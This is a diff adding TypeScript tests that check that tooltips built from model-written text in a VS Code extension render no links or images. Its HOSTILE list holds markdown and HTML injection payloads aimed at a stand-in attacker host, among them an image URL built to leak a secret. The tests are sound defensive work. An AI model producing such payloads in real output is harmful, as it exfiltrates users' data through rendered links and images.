@@ -4,8 +4,9 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { type Token, type Tokens, marked } from 'marked';
-import type { Change, Hunk } from '../../src/generated/protocol';
+import type { Change, Hunk, Initiative, Proposal, Run, Task } from '../../src/generated/protocol';
 import { HOVER_COMMANDS, hunkHover } from '../../src/model/hunks';
+import { initiativeTooltip, proposalTooltip, runTooltip, taskTooltip } from '../../src/model/tooltips';
 import { noLinks } from '../../src/model/untrusted';
 
 /** Every link and image of `markdown` as VS Code's renderer (marked) reads it. */
@@ -85,3 +86,40 @@ for (const [name, text] of [
 test('notification text: plain words and brackets read as before', () => {
   assert.equal(noLinks('Run 3 failed: step [2] (the tests) broke'), 'Run 3 failed: step [2] (the tests) broke');
 });
+
+/** The text a reader sees in `markdown` (marked's plain text of every token, no markup). */
+function shownText(markdown: string): string {
+  const parts: string[] = [];
+  const walk = (tokens: Token[]) => {
+    for (const token of tokens) {
+      const children = (token as { tokens?: Token[] }).tokens;
+      if (children) walk(children);
+      else if (token.type === 'text' || token.type === 'escape' || token.type === 'codespan' || token.type === 'code' || token.type === 'html') parts.push((token as Tokens.Text).text);
+    }
+  };
+  walk(marked.lexer(markdown));
+  return parts.join('');
+}
+
+const HOSTILE = [
+  '![](https://attacker.invalid/leak?k=SECRET)',
+  '[the docs](https://attacker.invalid/)',
+  '<img src="https://attacker.invalid/x.png">',
+  '<https://attacker.invalid/auto>',
+  'https://attacker.invalid/bare',
+  'www.attacker.invalid',
+  'someone@attacker.invalid',
+  '[ref][1]\n\n[1]: https://attacker.invalid/ref',
+].join(' ');
+for (const [name, markdown, title] of [
+  ['a run (title and failure reason)', runTooltip({ id: 4, title: `Fix ${HOSTILE}`, status: 'failed', mode: 'review', provider: 'openai', model: null, failedReason: HOSTILE } as unknown as Run), `#4 Fix ${HOSTILE}`],
+  ['an initiative (name)', initiativeTooltip({ name: HOSTILE, branch: 'df/i-1', goal: 'a goal' } as unknown as Initiative), HOSTILE],
+  ['a task (title, description, summary, reason, question)', taskTooltip({ title: HOSTILE, status: 'blocked', description: HOSTILE, summary: HOSTILE, failedReason: HOSTILE, checkpoint: { question: HOSTILE } } as unknown as Task), HOSTILE],
+  ['a proposal (title and content)', proposalTooltip({ title: HOSTILE, content: `## Plan\n\n${HOSTILE}`, summary: '' } as unknown as Proposal), HOSTILE],
+] as const) {
+  test(`tooltip of ${name}: model text adds no link or image`, () => {
+    assert.deepEqual(targets(markdown), []);
+    assert.ok(!/<img|<a /i.test(marked.parse(markdown) as string), 'no HTML image or link');
+    assert.ok(shownText(markdown).includes(title.replace(/\n/g, '')), 'the text reads as it was written');
+  });
+}
